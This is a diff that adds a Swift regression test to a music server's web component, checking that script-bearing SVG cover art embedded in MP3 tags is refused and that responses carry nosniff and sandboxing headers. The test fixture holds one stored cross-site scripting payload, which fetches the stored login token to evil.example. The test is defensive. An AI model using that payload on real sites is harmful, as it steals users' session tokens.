@@ -3,6 +3,7 @@ import Testing
 import TuttiCore
 import TuttiDaemon
 import TuttiFollower
+import TuttiLibrary
 import TuttiNet
 import TuttiTestSupport
 
@@ -87,5 +88,65 @@ import TuttiTestSupport
                                                     "--password", password], mergeErrors: true, timeout: 120)
         print(r.out)
         #expect(r.status == 0 && r.out.contains("all checks passed"), "the login test failed:\n\(r.out)")
+    }
+}
+
+/// Cover art and the headers of every web response (issue 26, finding 1):
+/// a cover whose tag declares `image/svg+xml` and holds a script is a file
+/// anyone can drop in the music folder; served as SVG it would run on the
+/// web app's origin and could read the login token the phone keeps.
+@Suite(.serialized) struct WebArtTests {
+    @Test func aCoverIsServedOnlyAsTheImageItsBytesAreAndNeverAsAPage() throws {
+        try #require(FileManager.default.isExecutableFile(atPath: "/usr/bin/lame"), "lame is missing: run scripts/setup.sh")
+        let dir = makeTemporaryDirectory()
+        let music = dir + "/music"
+        try FileManager.default.createDirectory(atPath: music, withIntermediateDirectories: true)
+        writeFile(dir + "/tone.wav", wavImage((0..<8_000).map { Int16(($0 % 40) * 100 - 2_000) }, rate: 8_000, channels: 1))
+        let encoded = try runProgram("/usr/bin/lame", ["--quiet", "-b", "16", dir + "/tone.wav", dir + "/plain.mp3"])
+        #expect(encoded.status == 0, "\(encoded.err)")
+        let audio = try Array(Data(contentsOf: URL(fileURLWithPath: dir + "/plain.mp3")))
+        let svg = Array(#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+localStorage.getItem("tutti.token"))</script></svg>"#.utf8)
+        let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + [UInt8](repeating: 7, count: 56)
+        writeFile(music + "/svg.mp3", ID3v2Writer.tag(version: 3, frames: [.text("TIT2", "Scripted"), .frontCover(mime: "image/svg+xml", bytes: svg)]) + audio)
+        // Declared as HTML, but the bytes are a PNG: it is served as what it is.
+        writeFile(music + "/png.mp3", ID3v2Writer.tag(version: 3, frames: [.text("TIT2", "Plain"), .frontCover(mime: "text/html", bytes: png)]) + audio)
+        let leader = try startLeader(files: []) { c in
+            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: WebAppTests.repository + "/web")
+            c.mpd = Endpoint(host: "127.0.0.1", port: 0)
+            c.musicDirectory = music
+            c.databasePath = dir + "/db/library.db"
+        }
+        defer { leader.stop() }
+        let library = try #require(leader.library)
+        #expect(waitUntil(timeout: 20) { (try? library.trackCount()) == 2 }, "library scan")
+        let svgHash = try #require(try library.track(atPath: music + "/svg.mp3")?.coverHash, "the SVG cover was kept by the scan")
+        let pngHash = try #require(try library.track(atPath: music + "/png.mp3")?.coverHash)
+        let port = try #require(leader.webEndpoint).port
+
+        let scripted = httpRequest(port: port, "GET", "/art/\(svgHash)")
+        #expect(scripted.hasPrefix("HTTP/1.1 415"), "\(scripted.prefix(300))")
+        #expect(!scripted.contains("<script>") && !(headerValue(scripted, "Content-Type") ?? "").contains("svg"), "\(scripted.prefix(300))")
+        #expect(headerValue(scripted, "X-Content-Type-Options") == "nosniff")
+
+        let image = httpRequest(port: port, "GET", "/art/\(pngHash)")
+        #expect(image.hasPrefix("HTTP/1.1 200"), "\(image.prefix(300))")
+        #expect(headerValue(image, "Content-Type") == "image/png", "the type from the bytes, not the tag's text/html")
+        #expect(headerValue(image, "X-Content-Type-Options") == "nosniff")
+        let policy = headerValue(image, "Content-Security-Policy") ?? ""
+        #expect(policy.contains("sandbox") && policy.contains("default-src 'none'"), "CSP: \(policy)")
+        #expect(headerValue(image, "Content-Length") == String(png.count))
+
+        // MPD's readpicture still gives the bytes, but its type is the bytes' own, never the tag's.
+        let mpd = try #require(leader.mpdEndpoint).port
+        let svgPicture = exchange(port: mpd, Array("readpicture svg.mp3 0\nclose\n".utf8))
+        #expect(svgPicture.contains("size: \(svg.count)") && !svgPicture.contains("type:"), "\(svgPicture.prefix(200))")
+        let pngPicture = exchange(port: mpd, Array("readpicture png.mp3 0\nclose\n".utf8))
+        #expect(pngPicture.contains("type: image/png"), "\(pngPicture.prefix(200))")
+
+        // Every response says nosniff: a page, a missing file, a refused method.
+        for (method, path) in [("GET", "/"), ("GET", "/no/such/file"), ("PUT", "/"), ("GET", "/art/zz")] {
+            let answer = httpRequest(port: port, method, path)
+            #expect(headerValue(answer, "X-Content-Type-Options") == "nosniff", "\(method) \(path): \(answer.prefix(200))")
+        }
     }
 }
